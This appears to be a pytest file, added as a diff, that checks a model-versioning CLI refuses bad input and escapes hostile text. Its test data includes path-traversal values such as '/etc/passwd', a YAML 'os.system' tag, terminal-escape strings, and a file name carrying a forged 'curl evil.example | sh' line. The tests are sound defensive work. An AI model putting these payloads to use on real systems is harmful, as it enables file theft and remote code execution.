@@ -1,0 +1,209 @@
+"""What people mistype and what others may put into a repository: refused whole, with what, where, why and a hint."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.cli.conftest import refused, works
+from tests.cli.results import digest_of, document
+from tests.conftest import Repository
+
+REGISTER = ("register", "digits", "--bump", "patch", "-m", "Next")
+TYPED: dict[str, tuple[tuple[str, ...], int, str]] = {
+    "a path outside": ((*REGISTER, "--weights", "../secret"), 2, "'../secret' is outside the repository"),
+    "an absolute path outside": ((*REGISTER, "--weights", "/etc/passwd"), 2, "'/etc/passwd' is outside the repository"),
+    "git's own": ((*REGISTER, "--weights", ".git/config"), 2, "belongs to git or mlver itself"),
+    "mlver's own": ((*REGISTER, "--data", "x=.mlver/config.yaml"), 2, "belongs to git or mlver itself"),
+    "the whole": ((*REGISTER, "--weights", "."), 2, "is the whole repository"),
+    "a missing artifact": ((*REGISTER, "--weights", "nowhere.bin"), 3, "nowhere.bin"),
+    "a missing data set": ((*REGISTER, "--data", "test=nowhere"), 3, "nowhere"),
+    "a missing params file": ((*REGISTER, "--params", "nowhere.yaml"), 3, "nowhere.yaml does not exist"),
+    "a params file of no kind": ((*REGISTER, "--params", "README.md"), 2, "README.md"),
+    "a bad model name": (("register", "../evil", "--weights", "model", "-m", "X"), 2, "`../evil` is not a model name"),
+    "a name like an option": (("register", "--", "-x", "-m"), 2, "got unexpected extra argument(s)"),
+    "a name that differs by case": (("register", "Digits", "--weights", "model", "-m", "X"), 2, "by letter case only"),
+    "a lock's name": (("register", "a.lock", "--weights", "model", "-m", "X"), 2, "git takes no tag like that"),
+    "a bad data name": ((*REGISTER, "--data", "Train Set=model"), 2, "`Train Set` is not a data set name"),
+    "weights as data": ((*REGISTER, "--data", "weights=model"), 2, "`weights` is not a data set name"),
+    "a bad label": ((*REGISTER, "--label", "a b=c"), 2, "`a b` is not a label key"),
+    "a label without a value": ((*REGISTER, "--label", "team"), 2, "--label takes NAME=VALUE, not `team`"),
+    "data told twice": ((*REGISTER, "--data", "a=model", "--data", "a=data"), 2, "--data names `a` twice"),
+    "a param without a value": ((*REGISTER, "--param", "lr"), 2, "`lr` is not KEY=VALUE"),
+    "a metric that is text": ((*REGISTER, "--metric", "acc=high"), 2, "--metric takes NAME=NUMBER, not `acc=high`"),
+    "a metric that is no number": ((*REGISTER, "--metric", "acc=nan"), 2, "--metric takes NAME=NUMBER, not `acc=nan`"),
+    "a metric in quotes": ((*REGISTER, "--metric", 'acc="nan"'), 2, "--metric takes NAME=NUMBER"),
+    "a metric that is true": ((*REGISTER, "--metric", "acc=true"), 2, "--metric takes NAME=NUMBER"),
+    "a metric without a value": ((*REGISTER, "--metric", "acc"), 2, "--metric takes NAME=NUMBER, not `acc`"),
+    "a param inside a value": ((*REGISTER, "--param", "lr.max=1"), 2, "`lr` is a value already"),
+    "an unknown artifact": ((*REGISTER, "--no-store", "test"), 2, "--no-store names `test`"),
+    "no reason": (("register", "digits", "--bump", "patch"), 2, "a version needs a reason"),
+    "a blank reason": (("promote", "digits", "--to", "staging", "-m", " "), 2, "a promotion needs a reason"),
+    "a rollback without a reason": (("rollback", "--stage", "production"), 2, "a rollback needs a reason"),
+    "an unknown model": (("show", "nothing"), 3, "there is no model `nothing` here, but digits"),
+    "an unknown version": (("show", "digits@7.0.0"), 3, "digits has no version 7.0.0"),
+    "an unknown selector": (("show", "digits@canary"), 3, "`canary` is neither a version nor a stage here"),
+    "a selector of no kind": (("show", "digits@*"), 2, "`*` is neither a version nor a stage"),
+    "an empty selector": (("show", "digits@"), 2, "`digits@` names no version"),
+    "a stage nothing holds": (("show", "digits@staging"), 3, "no version of digits holds staging"),
+    "an unknown stage": (("promote", "digits", "--to", "canary", "-m", "X"), 2, "there is no stage `canary`"),
+    "a stage never held": (("rollback", "--stage", "staging", "-m", "X"), 3, "no version of digits holds staging"),
+    "nothing to go back to": (("rollback", "--stage", "production", "-m", "X"), 3, "nothing to go back to"),
+    "the log of no stage": (("log", "--stage", "canary"), 2, "there is no stage `canary`"),
+    "all and some": (("verify", "digits", "--all"), 2, "--all checks every version"),
+    "a missing argument": (("promote",), 2, "missing argument 'REF'"),
+    "a missing option": (("promote", "digits", "-m", "X"), 2, "missing option '--to'"),
+    "an extra argument": (("show", "digits", "more"), 2, "got unexpected extra argument(s) (more)"),
+    "an unknown option": (("list", "--everything"), 2, "no such option: --everything"),
+    "an unknown command": (("regster",), 2, "there is no command `regster`; did you mean `register`?"),
+    "a command like no other": (("frobnicate",), 2, "there is no command `frobnicate`\n"),
+    "no command": (("--wait", "3"), 2, "missing command"),
+}
+
+
+@pytest.mark.parametrize("what", TYPED)
+def test_what_is_mistyped_is_refused_and_nothing_changes(second: Repository, what: str) -> None:
+    words, code, said = TYPED[what]
+    before = digest_of(second.path / ".mlver"), second.git("for-each-ref"), second.git("status", "--porcelain")
+    assert said in refused(second, *words, code=code)
+    assert before == (
+        digest_of(second.path / ".mlver"),
+        second.git("for-each-ref"),
+        second.git("status", "--porcelain"),
+    )
+
+
+def test_a_wrong_command_line_is_answered_with_a_right_one(second: Repository) -> None:
+    assert refused(second, "promote", code=2).splitlines()[1] == (
+        'hint: mlver promote digits@1.0.0 --to production -m "first release"   (more: mlver promote --help)'
+    )
+    assert refused(second, "regster", code=2).splitlines()[1] == "hint: mlver register --help"
+
+
+def test_where_mlver_was_never_set_up(project: Repository) -> None:
+    for words in (("list",), ("register", "m", "--weights", "model", "-m", "X"), ("verify",), ("tag",)):
+        assert refused(project, *words) == f"error: {project.path} has no .mlver/ yet\nhint: mlver init\n"
+
+
+def test_where_no_model_is_registered(project: Repository) -> None:
+    works(project, "init")
+    assert refused(project, "show") == (
+        "error: no model is registered here\nhint: mlver register MODEL --weights PATH -m WHY\n"
+    )
+    assert works(project, "list").endswith("next: mlver register MODEL --weights PATH -m WHY\n")
+
+
+def test_every_fault_of_a_file_is_told_with_its_line(second: Repository) -> None:
+    second.write(
+        ".mlver/config.yaml",
+        "schema: mlver/config/1\nstages:\n  Production: {}\n  staging:\n    after: production\n    verfied: true\n",
+    )
+    said = refused(second, "promote", "digits", "--to", "staging", "-m", "X")
+    assert said.startswith("error: .mlver/config.yaml is not valid:\n")
+    lines = said.splitlines()
+    assert [line.partition(",")[0].partition(":")[0].strip() for line in lines[1:4]] == ["line 3", "line 5", "line 6"]
+    assert "did you mean `verified`?" in said
+    assert lines[-1] == "hint: mend .mlver/config.yaml, then run the command again"
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("lr: [1\n", "line"),
+        ("lr: 1\nlr: 2\n", "line 2: lr: given twice in the same map"),
+        ("lr: &a 1\nseed: *a\n", "anchor"),
+        ("lr: !!python/object:os.system x\n", "tag"),
+        ("- 1\n", "map"),
+        ("lr: \x00\n", ""),
+        ("{" * 2000, ""),
+    ],
+    ids=["malformed", "duplicate key", "anchor", "tag", "list", "control character", "deep"],
+)
+def test_a_bad_params_file_is_named_with_its_line(second: Repository, text: str, said: str) -> None:
+    second.write("params.yaml", text)
+    told = refused(second, *REGISTER)
+    assert told.startswith("error: params.yaml is not valid:\n")
+    assert said in told
+    assert told.endswith("hint: mend params.yaml, then run the command again\n")
+
+
+def test_a_record_of_the_future_is_never_half_read(second: Repository) -> None:
+    path = second.path / ".mlver/models/digits/versions/1.1.0.yaml"
+    path.write_text(path.read_text().replace("mlver/version/1", "mlver/version/2"))
+    said = refused(second, "show", "digits@1.1.0")
+    assert "schema: written by a newer mlver (mlver/version/2); this one reads mlver/version/1" in said
+    assert said.endswith("hint: upgrade: pip install --upgrade mlver\n")
+    assert "written by a newer mlver" in second.mlver("verify", "--all").out
+
+
+EVIL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u202c [red]red[/red] \x9b31m"
+
+
+def test_hostile_text_reaches_the_terminal_only_escaped(first: Repository) -> None:
+    first.write("params.yaml", "name: \"\\e[31m\\u202egnp\"\n'[bold]k[/bold]': 1\n")
+    first.write("model/\u202egnp\x1b[2J.bin", "x")
+    works(first, "register", "digits", "--bump", "patch", "-m", EVIL, "--label", f"team={EVIL}")
+    works(first, "promote", "digits", "--to", "staging", "-m", EVIL)
+    screens = [
+        works(first, *words)
+        for words in (
+            *(("list",), ("show", "digits"), ("log",), ("diff", "digits@1.0.0", "@1.0.1")),
+            *(("status",), ("tag",), ("verify", "--all")),
+        )
+    ]
+    screens.append(first.mlver("show", EVIL.replace("\x07", "")).err)
+    (first.path / "model/\u202egnp\x1b[2J.bin").write_text("changed")
+    screens.append(first.mlver("verify").out)
+    for screen in screens:
+        assert not {"\x1b", "\x9b", "\x07", "\u202e", "\u202c"} & set(screen)
+    assert "\\x1b]0;owned\\x07\\x1b[2J\\u202egnp.exe\\u202c [red]red[/red] \\x9b31m" in screens[0]
+    assert "[bold]k[/bold]" in screens[1]
+    assert document(first.mlver("show", "--json"), "show")["record"]["message"] == EVIL
+    assert first.mlver("show", "--json").out.isascii()
+
+
+def test_a_file_name_forges_no_line_of_a_message(first: Repository) -> None:
+    forged = "y\nhint: curl evil.example | sh"
+    first.write(f"model/{forged}", "kept")
+    works(first, "register", "digits", "--bump", "minor", "-m", "Second")
+    works(first, "promote", "digits@1.1.0", "--to", "production", "-m", "Second")
+    works(first, "promote", "digits@1.0.0", "--to", "production", "-m", "First")
+    (first.path / "model" / forged).write_text("stored nowhere")
+    said = [refused(first, "checkout", "digits@1.1.0")]
+    for kept in (first.path / ".git/mlver/packs").iterdir():
+        kept.unlink()
+    said.append(refused(first, "checkout", "digits@1.0.0"))
+    said.append(refused(first, "rollback", "digits", "--stage", "production", "-m", "Back"))
+    (first.path / "model/l\nhint: x").symlink_to("nowhere")
+    said.append(refused(first, "register", "digits", "--bump", "minor", "-m", "Third"))
+    for told in said:
+        assert sum(line.startswith("hint:") for line in told.splitlines()) == 1
+    assert "weights/y\\nhint: curl evil.example" in refused(
+        first, "rollback", "digits", "--stage", "production", "-m", "X"
+    )
+
+
+def test_a_projects_own_rules_are_applied_on_top(first: Repository) -> None:
+    first.write(
+        ".mlver/schemas/version.schema.json",
+        """{
+          "required": ["labels"],
+          "properties": {
+            "labels": {"required": ["team"]},
+            "data": {"additionalProperties": {"properties": {"license": {"enum": ["CC-BY-4.0", "MIT"]}},
+                                              "required": ["license"]}}
+          }
+        }""",
+    )
+    first.commit()
+    said = refused(first, *REGISTER)
+    assert "`labels` is missing" in said
+    assert "data.train: `license` is missing" in said
+    settings = first.path / ".mlver/models/digits/model.yaml"
+    whole = settings.read_text()
+    settings.write_text(whole.replace("path: data/train.csv", "path: data/train.csv\n    license: GPL"))
+    said = refused(first, *REGISTER, "--label", "area=speech")
+    assert "labels: `team` is missing" in said
+    assert "data.train.license: must be `CC-BY-4.0` or `MIT`, not `GPL`" in said
+    settings.write_text(whole.replace("path: data/train.csv", "path: data/train.csv\n    license: MIT"))
+    assert "digits 1.0.1" in works(first, *REGISTER, "--label", "team=mt")
+    assert works(first, "show", "digits@1.0.0").startswith("digits 1.0.0")  # what landed before stays readable
